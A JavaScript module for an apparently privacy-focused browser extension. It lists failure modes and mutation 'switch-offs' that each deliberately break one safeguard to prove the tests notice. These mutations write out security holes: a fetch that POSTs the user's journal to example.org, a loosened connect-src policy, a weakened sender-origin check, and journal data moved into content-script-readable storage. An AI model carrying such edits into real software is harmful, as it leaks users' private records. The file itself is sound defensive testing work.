/** @typedef {import('./failure-modes.mjs').FailureMode} FailureMode */

const WATCH = 'test/content/watch-page.test.ts';
const READ = 'test/content/read-page.test.ts';
const FORGED = 'test/e2e/forged-messages.spec.ts';

/** @type {FailureMode[]} */
export const SURFACES = [
  {
    mode: 'The status page is built differently one day',
    promise: 'What is not understood is not said: no title, no status, no number is guessed.',
    tests: ['with a title nobody has seen before', 'when two statuses stand on one page'],
    switchOffs: [
      {
        rule: 'The heading of the empty form is no title',
        file: 'src/content/status-words.ts',
        from: "return title === '' || LANDING_TITLE.test(title);",
        to: "return title === '' || LANDING_TITLE.source === title;",
        test: 'without a title under the heading of the empty form',
        in: READ,
      },
    ],
  },
  {
    mode: 'A page lies: thousands of numbers, endless text, script in its words',
    promise: 'All of it is capped and shown as text; nothing is kept by itself.',
    tests: [
      'with 10,000 numbers lists 50 of them and says how many there were',
      'with 5 MB in the status sentence is told cut short',
      'stand as text, and nothing of them runs',
    ],
    switchOffs: [
      {
        rule: 'Only a case that was kept has its status recorded',
        file: 'src/background/record-sighting.ts',
        from: 'if (row === undefined) return false;',
        to: '',
        test: 'the page of a case that is not kept records nothing',
        in: 'test/background/record-sighting.test.ts',
      },
    ],
  },
  {
    mode: 'The page changes in place, in two steps',
    promise: 'Each status is told once and whole, never with the heading of the one before.',
    tests: ['each status is told once, whole', 'never gets the heading of the one before'],
    switchOffs: [
      {
        rule: 'Text under an old heading waits for its own',
        file: 'src/content/watch-page.ts',
        from: 'return titleIsNew === textIsNew ? 0 : WAIT_FOR_OTHER_HALF;',
        to: 'return 0;',
        test: 'never gets the heading of the one before',
        in: WATCH,
      },
    ],
  },
  {
    mode: 'The extension is updated under a page that stays open',
    promise: 'The old script stops without a word.',
    tests: ['ends silently with the extension', 'knows that an updated extension is gone'],
    switchOffs: [
      {
        rule: 'A watch ends with its extension',
        file: 'src/content/watch-page.ts',
        from: 'if (!isAlive()) return stop();',
        to: '',
        test: 'ends silently with the extension',
        in: WATCH,
      },
    ],
  },
  {
    mode: 'The page, or its content script, tries to read what is noted',
    promise: 'It can read nothing of it, in either browser.',
    tests: [
      'can be read by neither the content script nor the page',
      'is in no page that embeds the popup',
    ],
    switchOffs: [
      {
        rule: 'Nothing of the journal is put where content scripts can read',
        file: 'src/ui/save.ts',
        from: 'onCommitted: telling.owe,',
        to: 'onCommitted: () => {\n    const { chrome } = globalThis as unknown as { chrome: { storage: { local: { set: (items: object) => void } } } };\n    chrome.storage.local.set({ noted: JSON.stringify(entries) });\n    telling.owe();\n  },',
        test: 'can be read by neither the content script nor the page',
        in: 'test/e2e/isolation.spec.ts',
      },
    ],
  },
  {
    mode: 'The permission to read the account page is given back while such a page is open',
    promise: 'Its script ends, and what it may still say is not heard.',
    tests: [
      'it is given back, and nothing is read any more, nor what was read remembered',
      'in Firefox the account page is read once it is allowed, and no more when that is given back',
    ],
    switchOffs: [
      {
        rule: 'The account page is heard only while it may be read',
        file: 'src/platform/messages.ts',
        from: 'sighting !== undefined && (await mayReadAccount())',
        to: 'sighting !== undefined',
        test: 'is not heard once the permission was given back',
        in: 'test/platform/account-page.test.ts',
      },
      {
        rule: 'The script is in no page that may not be read',
        file: 'src/background/account-reading.ts',
        from: 'await script.endInOpenPages();',
        to: '',
        test: 'given back, it is gone from open pages, and what they showed is forgotten',
        in: 'test/background/account-reading.test.ts',
      },
    ],
  },
  {
    mode: 'The account page is built in a way nobody knows',
    promise: 'A form or status that could be another card’s is not taken.',
    tests: [
      'never get the form of a neighbour, whichever of them name one',
      'of a draft that has no number yet is not the one case’s',
    ],
    switchOffs: [
      {
        rule: 'A block that is about two forms says no status',
        file: 'src/content/read-account.ts',
        from: '.filter((lines) => formsAtStart(lines).length <= 1)',
        to: '',
        test: 'of a draft that has no number yet is not the one case’s',
        in: 'test/content/read-account.test.ts',
      },
    ],
  },
  {
    mode: 'A forged message of a content script',
    promise: 'All it may say is a sighting, which is parsed and cut to its bounds.',
    tests: ['is refused: reconcile', 'is taken, and cut to its bounds, where it is a sighting'],
    switchOffs: [
      {
        rule: 'What pages of ours ask, only they may ask',
        file: 'src/platform/messages.ts',
        from: 'return sender.id === browser.runtime.id && sender.url?.startsWith(ownOrigin()) === true;',
        to: 'return sender.id === browser.runtime.id && ownOrigin() !== undefined;',
        test: 'is refused: reconcile',
        in: FORGED,
      },
    ],
  },
  {
    mode: 'The package comes to ask for more than it should',
    promise: 'A change of what it asks for, or of what pages may reach, fails the checks.',
    tests: [],
    switchOffs: [
      {
        rule: 'No permission that is not in test/golden',
        file: 'manifest.json',
        from: '"unlimitedStorage"',
        to: '"unlimitedStorage", "tabs"',
        test: 'chrome asks for what test/golden says, and no more',
        in: 'package checks',
      },
    ],
  },
  {
    mode: 'The worker is wired to the wrong file, or imports while it runs',
    promise: 'The checks of the package find it before anybody gets it.',
    tests: [],
    switchOffs: [
      {
        rule: 'The worker listens to alarms',
        file: 'src/platform/worker-events.ts',
        from: '  browser.alarms.onAlarm.addListener(wake);\n',
        to: '',
        test: 'chrome has a worker that listens to alarms and touches no page',
        in: 'package checks',
      },
    ],
  },
  {
    mode: 'Something tries to send what is noted',
    promise: 'The package contains no way to, and the browser would refuse.',
    tests: [
      'reading a page, keeping the journal and looking at it ask the network for nothing',
      'the worker could not send anything if it tried',
    ],
    switchOffs: [
      {
        rule: 'No code that can send',
        file: 'src/ui/save.ts',
        from: 'onCommitted: telling.owe,',
        to: "onCommitted: () => {\n    void fetch('https://example.org/', { method: 'POST', body: JSON.stringify(entries) });\n    telling.owe();\n  },",
        test: 'chrome contains no way to send anything',
        in: 'package checks',
      },
      {
        rule: 'The policy of the package forbids to send',
        file: 'manifest.json',
        from: "connect-src 'none'",
        to: "connect-src 'self' https:",
        test: 'the worker could not send anything if it tried',
        in: 'test/e2e/no-network.spec.ts',
      },
    ],
  },
  {
    mode: 'A real receipt number gets into the repository',
    promise: 'A test finds every number that is not among the made-up ones.',
    tests: ['holds no receipt number but the made-up ones of test/made-up-receipts.txt'],
  },
];
